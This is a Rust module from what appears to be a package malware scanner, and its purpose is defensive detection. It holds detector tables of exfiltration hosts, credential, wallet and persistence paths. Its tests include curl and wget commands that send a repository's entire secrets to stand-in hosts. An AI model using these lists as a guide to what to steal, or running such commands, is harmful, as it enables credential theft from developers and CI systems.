//! Language-neutral facts about strings: where a URL points, whether a path holds
//! secrets or makes code start at boot, whether a blob is encoded. Every analyser calls
//! these on the constant strings it folds from the tree.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

/// Hosts and URL fragments that legitimate packages rarely contact: chat webhooks used
/// as drop boxes, paste sites, request catchers, out-of-band interaction servers and
/// tunnels. Matching is on the lower-cased text.
const DESTINATIONS: &[(&str, &str)] = &[
    ("discord.com/api/webhooks", "Discord webhook"),
    ("discordapp.com/api/webhooks", "Discord webhook"),
    ("api.telegram.org/bot", "Telegram bot API"),
    ("hooks.slack.com/services", "Slack webhook"),
    ("pastebin.com/raw", "paste site"),
    ("paste.ee/r", "paste site"),
    ("hastebin.com", "paste site"),
    ("rentry.co", "paste site"),
    ("termbin.com", "paste site"),
    ("ghostbin", "paste site"),
    ("transfer.sh", "anonymous file drop"),
    ("gofile.io", "anonymous file drop"),
    ("anonfiles", "anonymous file drop"),
    ("file.io", "anonymous file drop"),
    ("pipedream.net", "request catcher"),
    ("webhook.site", "request catcher"),
    ("requestbin", "request catcher"),
    ("beeceptor.com", "request catcher"),
    ("interact.sh", "out-of-band interaction server"),
    ("oast.fun", "out-of-band interaction server"),
    ("oast.pro", "out-of-band interaction server"),
    ("oast.live", "out-of-band interaction server"),
    ("oast.site", "out-of-band interaction server"),
    ("oast.online", "out-of-band interaction server"),
    ("oast.me", "out-of-band interaction server"),
    ("burpcollaborator.net", "out-of-band interaction server"),
    ("oastify.com", "out-of-band interaction server"),
    ("canarytokens.com", "canary token server"),
    ("dnslog.cn", "DNS logger"),
    ("ceye.io", "DNS logger"),
    ("ngrok.io", "tunnel"),
    ("ngrok-free.app", "tunnel"),
    ("ngrok.app", "tunnel"),
    ("trycloudflare.com", "tunnel"),
    ("serveo.net", "tunnel"),
    ("loca.lt", "tunnel"),
    ("localtunnel.me", "tunnel"),
    ("portmap.io", "tunnel"),
    ("stratum+tcp://", "mining pool"),
    ("stratum+ssl://", "mining pool"),
    ("stratum+tls://", "mining pool"),
    ("stratum2+tcp://", "mining pool"),
];

/// The words of a pattern table (its first column), searched ignoring ASCII case. Two automata: a case-insensitive one walks every byte to find each
/// occurrence, overlapping ones too; a leftmost-first one over a lower-cased copy only
/// answers whether any word is there, but with vector instructions (aho-corasick
/// vectorises leftmost match kinds only). Most texts hold none of the words, and only
/// the quick question is asked of them.
struct Words {
    each: AhoCorasick,
    any: AhoCorasick,
}

impl Words {
    fn new(table: &'static [(&'static str, &'static str)]) -> Self {
        let words = || table.iter().map(|(needle, _)| needle);
        Self {
            each: AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(words())
                .expect("the pattern tables are valid"),
            // Lower-cased here too, so that a word written with capitals is not missed.
            any: AhoCorasick::builder()
                .match_kind(aho_corasick::MatchKind::LeftmostFirst)
                .build(words().map(|w| w.to_ascii_lowercase()))
                .expect("the pattern tables are valid"),
        }
    }

    /// Whether a word occurs in `text`, ignoring ASCII case, and, with `slashes`, with
    /// backslashes read as slashes.
    fn any_in(&self, text: &str, slashes: bool) -> bool {
        thread_local! {
            static BUFFER: std::cell::RefCell<Vec<u8>> = const { std::cell::RefCell::new(Vec::new()) };
        }
        let lower = |b: u8| {
            if slashes && b == b'\\' {
                b'/'
            } else {
                b.to_ascii_lowercase()
            }
        };
        BUFFER.with(|cell| match cell.try_borrow_mut() {
            Ok(mut buffer) => {
                buffer.clear();
                buffer.extend(text.bytes().map(lower));
                self.any.is_match(buffer.as_slice())
            }
            Err(_) => self
                .any
                .is_match(&text.bytes().map(lower).collect::<Vec<u8>>()),
        })
    }
}

/// If `text` holds a URL or host that legitimate packages rarely contact, says what it
/// is and returns the matched URL.
#[must_use]
pub fn suspicious_destination(text: &str) -> Option<(&'static str, String)> {
    static DEST: LazyLock<Words> = LazyLock::new(|| Words::new(DESTINATIONS));
    // Every pattern has a dot in it: most strings are ruled out without a search.
    if text.len() < 6 || text.len() > 4096 || memchr::memchr(b'.', text.as_bytes()).is_none() {
        return None;
    }
    let found = DEST
        .any_in(text, false)
        .then(|| DEST.each.find_overlapping_iter(text))
        .into_iter()
        .flatten();
    for m in found {
        // Require a host boundary before the match (start, '/', '.', '@' or quote).
        let before = text[..m.start()].chars().last();
        if before.is_none_or(|c| matches!(c, '/' | '.' | '@' | ' ' | '"' | '\'')) {
            return Some((
                DESTINATIONS[m.pattern().as_usize()].1,
                excerpt(text, m.start()),
            ));
        }
    }
    memchr::memmem::find(text.as_bytes(), b"://")?;
    ip_literal_url(&text.to_ascii_lowercase()).map(|url| ("IP-literal URL", url))
}

fn excerpt(text: &str, at: usize) -> String {
    let start = text[..at]
        .rfind(|c: char| c.is_whitespace() || c == '"' || c == '\'')
        .map_or(0, |i| i + 1);
    text[start..]
        .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
        .next()
        .unwrap_or("")
        .chars()
        .take(120)
        .collect()
}

/// An `http(s)://a.b.c.d` URL to a public IPv4 address (loopback, private and
/// documentation ranges are left alone: tests and local tooling use them).
fn ip_literal_url(lower: &str) -> Option<String> {
    for scheme in ["http://", "https://", "tcp://", "ws://", "wss://"] {
        let mut rest = lower;
        while let Some(at) = rest.find(scheme) {
            let after = &rest[at + scheme.len()..];
            let host: String = after
                .chars()
                .take_while(|c| c.is_ascii_digit() || *c == '.')
                .collect();
            let octets: Vec<u8> = host.split('.').filter_map(|o| o.parse().ok()).collect();
            if octets.len() == 4 && host.split('.').count() == 4 && is_public(&octets) {
                let url: String = after
                    .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
                    .next()
                    .unwrap_or("")
                    .chars()
                    .take(100)
                    .collect();
                return Some(format!("{scheme}{url}"));
            }
            rest = after;
        }
    }
    None
}

/// Whether an address is one a package could reach on the internet. The documentation
/// ranges of RFC 5737 (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) count as public:
/// they stand for real addresses in write-ups and in this project's inert samples, and
/// code that talks to one is as unusual as code that talks to any other literal address.
fn is_public(o: &[u8]) -> bool {
    !matches!(
        (o[0], o[1], o[2]),
        (0 | 10 | 127, _, _)
            | (169, 254, _)
            | (172, 16..=31, _)
            | (192, 168, _)
            | (192, 0, 0)
            | (255, _, _)
            | (224..=239, _, _)
    )
}

/// The descriptions of [`secret_path`] that name a place holding credentials among
/// other things (a browser profile, the SSH folder, a tool's config, shell history)
/// rather than the credentials themselves: a bookmarks exporter reads a browser profile.
pub const SECRET_CONTAINERS: &[&str] = &[
    "SSH folder",
    "AWS config",
    "git config",
    "shell history",
    "Chrome profile",
    "Brave profile",
    "Firefox profile",
];

/// Path fragments of credentials and personal data. Lower-cased, '/'-separated.
const SECRET_PATHS: &[(&str, &str)] = &[
    (".ssh/id_", "SSH private key"),
    (".ssh/", "SSH folder"),
    (".aws/credentials", "AWS credentials"),
    (".aws/config", "AWS config"),
    (".azure/", "Azure credentials"),
    ("msal_token_cache", "Azure credentials"),
    (".config/gcloud", "Google Cloud credentials"),
    // Windows keeps gcloud's files under %APPDATA%\gcloud (`$APPDATA/gcloud` as the
    // analysers spell an environment variable's value).
    ("appdata/gcloud", "Google Cloud credentials"),
    ("appdata%/gcloud", "Google Cloud credentials"),
    ("roaming/gcloud", "Google Cloud credentials"),
    (
        "application_default_credentials.json",
        "Google Cloud credentials",
    ),
    (".kube/config", "Kubernetes credentials"),
    (".docker/config.json", "Docker registry credentials"),
    (".git-credentials", "git credentials"),
    (".gitconfig", "git config"),
    (".pypirc", "PyPI upload token"),
    (".npmrc", "npm token"),
    (".yarnrc", "yarn token"),
    (".netrc", "netrc credentials"),
    (".gnupg", "GnuPG keys"),
    (".bash_history", "shell history"),
    (".zsh_history", "shell history"),
    ("/etc/passwd", "system accounts"),
    ("/etc/shadow", "system password hashes"),
    ("login data", "browser saved passwords"),
    ("/cookies", "browser cookies"),
    ("local state", "browser encryption key"),
    ("google/chrome/user data", "Chrome profile"),
    ("bravesoftware", "Brave profile"),
    ("mozilla/firefox/profiles", "Firefox profile"),
    ("key4.db", "Firefox passwords"),
    ("logins.json", "Firefox passwords"),
    ("keychain", "macOS keychain"),
    ("library/keychains", "macOS keychain"),
    ("exodus/exodus.wallet", "Exodus wallet"),
    ("electrum/wallets", "Electrum wallet"),
    ("atomic/local storage", "Atomic wallet"),
    ("ethereum/keystore", "Ethereum keystore"),
    ("wallet.dat", "crypto wallet"),
    (
        "nkbihfbeogaeaoehlefnkodbefgpgknn",
        "MetaMask extension data",
    ),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "Phantom extension data"),
    ("solana/id.json", "Solana wallet"),
    ("discord/local storage/leveldb", "Discord tokens"),
    // Any Chromium or Electron app's local storage (Discord's, under a name assembled at
    // run time; Slack's; a browser profile's): where their session tokens live.
    (
        "local storage/leveldb",
        "an app's local storage (session tokens)",
    ),
    ("telegram desktop/tdata", "Telegram session"),
];

/// If a path names credentials or personal data, says which.
#[must_use]
pub fn secret_path(text: &str) -> Option<&'static str> {
    static SECRETS: LazyLock<Words> = LazyLock::new(|| Words::new(SECRET_PATHS));
    table_match(&SECRETS, SECRET_PATHS, text)
}

/// The entry of `table` found in `text` that is listed first (tables list the specific
/// before the general: `.ssh/id_` before `.ssh/`). Backslashes count as slashes.
fn table_match(
    words: &Words,
    table: &'static [(&'static str, &'static str)],
    text: &str,
) -> Option<&'static str> {
    if text.len() > 1024 || !words.any_in(text, true) {
        return None;
    }
    let first = |t: &str| {
        words
            .each
            .find_overlapping_iter(t)
            .map(|m| m.pattern().as_usize())
            .min()
    };
    let found = if text.contains('\\') {
        first(&text.replace('\\', "/"))
    } else {
        first(text)
    };
    found.map(|i| table[i].1)
}

/// Locations that make code run at login or boot.
const PERSISTENCE_PATHS: &[(&str, &str)] = &[
    (".bashrc", "shell rc file"),
    (".bash_profile", "shell rc file"),
    (".zshrc", "shell rc file"),
    (".profile", "shell rc file"),
    (".zprofile", "shell rc file"),
    (".zshenv", "shell rc file"),
    (".bash_login", "shell rc file"),
    (".config/fish/config.fish", "shell rc file"),
    ("/etc/cron", "cron job"),
    ("/var/spool/cron", "cron job"),
    ("/etc/rc.local", "boot script"),
    (".config/systemd/user", "systemd user unit"),
    ("/etc/systemd/system", "systemd unit"),
    ("library/launchagents", "macOS LaunchAgent"),
    ("library/launchdaemons", "macOS LaunchDaemon"),
    (".config/autostart", "desktop autostart entry"),
    ("start menu/programs/startup", "Windows startup folder"),
    ("currentversion/run", "Windows Run key"),
    // The Discord desktop client loads this module at every start: stealers overwrite it
    // to forward the user's token on each login.
    ("discord_desktop_core", "Discord client's startup code"),
];

/// If a path or registry key makes code start at login or boot, says which.
#[must_use]
pub fn persistence_path(text: &str) -> Option<&'static str> {
    static PERSISTENCE: LazyLock<Words> = LazyLock::new(|| Words::new(PERSISTENCE_PATHS));
    table_match(&PERSISTENCE, PERSISTENCE_PATHS, text)
}

/// True for environment variable names that usually hold credentials.
#[must_use]
pub fn is_secret_env_name(name: &str) -> bool {
    const WORDS: [&[u8]; 10] = [
        b"TOKEN",
        b"SECRET",
        b"PASSWORD",
        b"PASSWD",
        b"CREDENTIAL",
        b"API_KEY",
        b"APIKEY",
        b"PRIVATE_KEY",
        b"ACCESS_KEY",
        b"AUTH",
    ];
    // Upper-cased on the stack when short, as names are (every literal item of a
    // collection is asked about).
    let mut buf = [0u8; 64];
    let heap;
    let upper: &[u8] = if let Some(room) = buf.get_mut(..name.len()) {
        room.copy_from_slice(name.as_bytes());
        room.make_ascii_uppercase();
        room
    } else {
        heap = name.to_ascii_uppercase();
        heap.as_bytes()
    };
    WORDS
        .iter()
        .any(|w| upper.windows(w.len()).any(|at| at == *w))
}

/// What kind of encoded blob a long string constant is, if any.
#[must_use]
pub fn encoded_blob(text: &str) -> Option<&'static str> {
    const MIN: usize = 512;
    if text.len() < MIN {
        return None;
    }
    let bytes = text.as_bytes();
    let sample = &bytes[..bytes.len().min(64 * 1024)];
    // One pass that stops at the first byte neither base64 nor whitespace: prose (a long
    // docstring) ends at its first '.' or ','.
    let (mut hex, mut ws) = (0usize, 0usize);
    for &b in sample {
        if b.is_ascii_hexdigit() {
            hex += 1;
        } else if b.is_ascii_whitespace() {
            ws += 1;
        } else if !(b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')) {
            return None;
        }
    }
    let body = sample.len() - ws;
    if body < MIN || ws * 50 > sample.len() {
        return None;
    }
    if hex == body {
        return Some("hex");
    }
    // Every other byte is base64.
    (entropy(sample) > 5.0).then_some("base64")
}

/// Whether a string constant is readable text written in base64: a long run of the
/// base64 alphabet alone that decodes to printable prose or code. Data that packages
/// embed this way (images, fonts, archives, WebAssembly) decodes to binary, and markup
/// (an SVG icon) is left out; text has no reason to be hidden from a reader but to be.
#[must_use]
pub fn hidden_text(text: &str) -> bool {
    use base64::Engine as _;
    const MIN: usize = 200;
    if text.len() < MIN || text.len() > 1 << 16 {
        return false;
    }
    let body = text.trim_end_matches('=');
    if !body
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
        || body.bytes().all(|b| b.is_ascii_hexdigit())
    {
        return false;
    }
    let Ok(decoded) = base64::engine::general_purpose::STANDARD_NO_PAD.decode(body) else {
        return false;
    };
    let printable = decoded
        .iter()
        .filter(|&&b| (0x20..0x7f).contains(&b) || matches!(b, b'\n' | b'\r' | b'\t'))
        .count();
    let letters = decoded.iter().filter(|b| b.is_ascii_alphabetic()).count();
    printable == decoded.len()
        && letters * 2 >= decoded.len()
        && !decoded.trim_ascii_start().starts_with(b"<")
}

/// Whether a text is a CI workflow step that sends every secret of the repository out:
/// `${{ toJSON(secrets) }}` (GitHub's expressions ignore case) beside a command that
/// talks to the network. Planted in other repositories' workflows, this is how the 2025
/// workflow worms collected their victims' secrets; no workflow needs all of them at once
/// to send somewhere.
#[must_use]
pub fn workflow_secret_dump(text: &str) -> bool {
    // Every string constant of every file comes here: most leave before any copy, at
    // the first test that needs a `(` followed by `secrets` (spaces between allowed, as
    // the expression's are). Parentheses are rare in prose, so few places are looked at.
    if text.len() < 20 || text.len() > 1 << 16 {
        return false;
    }
    let bytes = text.as_bytes();
    let opens_secrets = memchr::memchr_iter(b'(', bytes).any(|at| {
        let rest = bytes[at + 1..].trim_ascii_start();
        rest.get(..7)
            .is_some_and(|w| w.eq_ignore_ascii_case(b"secrets"))
    });
    if !opens_secrets {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let compact: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    compact.contains("tojson(secrets)")
        && [
            "curl ",
            "wget ",
            "invoke-webrequest",
            "invoke-restmethod",
            "http://",
            "https://",
        ]
        .iter()
        .any(|s| lower.contains(s))
}

/// Shannon entropy in bits per byte.
#[must_use]
pub fn entropy(bytes: &[u8]) -> f64 {
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in bytes {
        counts[usize::from(b)] += 1;
    }
    #[allow(clippy::cast_precision_loss)]
    let n = bytes.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// Shortens text to `n` characters for a message.
#[must_use]
pub fn clip(text: &str, n: usize) -> String {
    let mut out: String = text.chars().take(n).collect();
    if text.chars().nth(n).is_some() {
        out.push('…');
    }
    out
}

/// The user's own folders whose removal is destruction, not cleanup: the home folder's
/// documents and keys.
const USER_FOLDERS: &[&str] = &[
    ".ssh",
    ".gnupg",
    "documents",
    "desktop",
    "pictures",
    "downloads",
    "projects",
];

/// Whether a name is one of the user's own folders (`Documents`, `.ssh`).
#[must_use]
pub fn is_user_folder(name: &str) -> bool {
    let name = name.trim_matches(['/', '\\']);
    USER_FOLDERS.iter().any(|f| name.eq_ignore_ascii_case(f))
}

/// What deleting `path` destroys, when it is the home folder, a folder of the user's
/// directly under it, or the root: `~`, `~/Documents`, `~/.ssh`, `/`.
#[must_use]
pub fn destroyed_by_removal(path: &str) -> Option<&'static str> {
    let p = path.replace('\\', "/");
    let p = p.trim_end_matches('/');
    match p {
        "" if path.starts_with('/') => return Some("the root file system"),
        "~" | "$HOME" | "%USERPROFILE%" => return Some("the home folder"),
        _ => {}
    }
    let rest = p.strip_prefix("~/")?;
    (!rest.contains('/') && is_user_folder(rest)).then_some("a folder of the user's own")
}

/// Whether a string is a pattern (a regular expression) for a cryptocurrency wallet
/// address: an Ethereum `0x` and 40 hex digits, a Bitcoin `bc1`/`[13]` and base58, a
/// Tron `T` and 33 base58 characters.
#[must_use]
pub fn wallet_address_pattern(text: &str) -> bool {
    if text.len() > 400 || !text.contains('{') {
        return false;
    }
    let eth = text.contains("0x[") && text.contains("{40}");
    let btc = text.contains("bc1")
        && (text.contains("{25,") || text.contains("{39,") || text.contains("{11,"));
    // Base58 leaves out 0, O, I and l: its character classes skip them (`a-km-z`,
    // `A-HJ-NP-Z`, `1-9`), which nothing but an address or key validator spells.
    let base58 =
        text.contains("1-9A-HJ-NP-Z") || (text.contains("a-km-z") && text.contains("A-HJ-NP"));
    eth || btc || base58
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_lower_cased_prefilter_agrees_with_the_case_insensitive_search() {
        for table in [DESTINATIONS, SECRET_PATHS, PERSISTENCE_PATHS] {
            let words = Words::new(table);
            // Every word, in three casings, alone and inside text, with its slashes as
            // backslashes; a word short of a byte; and texts close to none.
            let mut texts: Vec<String> = Vec::new();
            for (needle, _) in table {
                let upper = needle.to_ascii_uppercase();
                let mixed: String = needle
                    .chars()
                    .enumerate()
                    .map(|(i, c)| {
                        if i % 2 == 0 {
                            c.to_ascii_uppercase()
                        } else {
                            c
                        }
                    })
                    .collect();
                for n in [needle.to_string(), upper, mixed] {
                    texts.push(format!("see https://x.{n}/path and more"));
                    texts.push(n.replace('/', "\\"));
                    texts.push(n[..n.len() - 1].to_owned());
                    texts.push(format!("été {}", &n[1..]));
                    texts.push(n);
                }
            }
            texts.extend(
                [
                    "",
                    ".",
                    "docs.python.org",
                    "Ünïcode.Straße.com",
                    "a\\b",
                    "file.IO",
                ]
                .map(str::to_owned),
            );
            for text in &texts {
                assert_eq!(
                    words.any_in(text, false),
                    words.each.is_match(text.as_str()),
                    "{text:?}"
                );
                assert_eq!(
                    words.any_in(text, true),
                    words.each.is_match(text.replace('\\', "/").as_str()),
                    "{text:?}"
                );
            }
        }
        let destinations = Words::new(DESTINATIONS);
        assert!(destinations.any_in("POST to HTTPS://Discord.COM/api/Webhooks/1", false));
        assert!(!destinations.any_in("a webhook, a paste, a tunnel", false));
        assert_eq!(
            secret_path("C:\\Users\\me\\.SSH\\id_rsa"),
            secret_path("~/.ssh/id_rsa")
        );
        assert!(secret_path("~/.ssh/id_rsa").is_some());
    }

    #[test]
    fn destinations() {
        assert_eq!(
            suspicious_destination("https://discord.com/api/webhooks/123/abc").map(|d| d.0),
            Some("Discord webhook")
        );
        assert_eq!(
            suspicious_destination("http://45.61.1.2:8080/x").map(|d| d.1),
            Some("http://45.61.1.2:8080/x".into())
        );
        assert!(suspicious_destination("http://127.0.0.1:8000/").is_none());
        assert!(suspicious_destination("http://192.168.1.1/").is_none());
        assert!(suspicious_destination("https://docs.python.org/3/").is_none());
        assert!(suspicious_destination("notwebhook.site.example").is_none());
    }

    #[test]
    fn paths() {
        assert_eq!(secret_path("~/.ssh/id_rsa"), Some("SSH private key"));
        assert_eq!(
            secret_path(
                "C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
            ),
            Some("browser saved passwords")
        );
        assert!(secret_path("src/config.py").is_none());
        assert_eq!(
            persistence_path("~/.config/systemd/user/x.service"),
            Some("systemd user unit")
        );
    }

    #[test]
    fn text_hidden_in_base64() {
        // Prose in base64 is hidden text; binary data and markup in base64 are not.
        use base64::Engine as _;
        let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
        assert!(hidden_text(&b64(
            "import os; os.system('id') # and then some more words "
                .repeat(5)
                .as_bytes()
        )));
        assert!(!hidden_text(&b64(&(0..=255u8)
            .cycle()
            .take(600)
            .collect::<Vec<_>>())));
        assert!(!hidden_text(&b64(
            "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h24v24H0z'/></svg>"
                .repeat(4)
                .as_bytes()
        )));
        assert!(!hidden_text(&b64(b"short text")));
        assert!(!hidden_text(&"deadbeef".repeat(40)));
    }

    #[test]
    fn secret_names() {
        for secret in [
            "GITHUB_TOKEN",
            "aws_secret_access_key",
            "npmAuth",
            "DB_Password",
        ] {
            assert!(is_secret_env_name(secret), "{secret}");
        }
        for plain in ["HOME", "PATH", "node_env", ""] {
            assert!(!is_secret_env_name(plain), "{plain}");
        }
        // Longer than the stack copy: the same answer.
        assert!(is_secret_env_name(&format!(
            "{}_private_key",
            "X".repeat(80)
        )));
        assert!(!is_secret_env_name(&"X".repeat(80)));
    }

    #[test]
    fn workflows_that_send_every_secret() {
        assert!(workflow_secret_dump(
            "steps:\n  - run: curl -d \"${{ toJSON(secrets) }}\" https://collect.example.invalid/"
        ));
        assert!(workflow_secret_dump(
            "run: echo '${{ tojson( secrets ) }}' | base64 | wget --post-data=@- http://192.0.2.7/"
        ));
        assert!(workflow_secret_dump(
            "run: |\n  curl --data \"${{ ToJson(\n   SECRETS) }}\" https://collect.example.invalid/"
        ));
        // Printing them for debugging, or one secret sent to its own service, is not.
        assert!(!workflow_secret_dump(
            "run: echo '${{ toJSON(secrets) }}' > /dev/null"
        ));
        assert!(!workflow_secret_dump(
            "run: curl -H \"Authorization: ${{ secrets.DEPLOY_TOKEN }}\" https://deploy.example.invalid/"
        ));
    }

    #[test]
    fn blobs() {
        let b64: String = (0..2000u32)
            .map(|i| {
                let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                alphabet[(u64::from(i).wrapping_mul(2_654_435_761) >> 7) as usize % 64] as char
            })
            .collect();
        assert_eq!(encoded_blob(&b64), Some("base64"));
        assert_eq!(encoded_blob(&"deadbeef".repeat(100)), Some("hex"));
        assert_eq!(encoded_blob(&"hello world ".repeat(100)), None);
        assert_eq!(encoded_blob("short"), None);
        // A single byte outside base64 and whitespace rules a blob out, wherever it lies.
        let mut almost = b64.clone();
        almost.insert(almost.len() / 2, '.');
        assert_eq!(encoded_blob(&almost), None);
        // Whitespace past one byte in fifty too.
        let hex_with = |every: usize, space: char| -> String {
            "deadbeef"
                .repeat(100)
                .chars()
                .enumerate()
                .flat_map(|(i, c)| (i % every == 0).then_some(space).into_iter().chain([c]))
                .collect()
        };
        assert_eq!(encoded_blob(&hex_with(40, ' ')), None);
        assert_eq!(encoded_blob(&hex_with(80, '\n')), Some("hex"));
    }
}
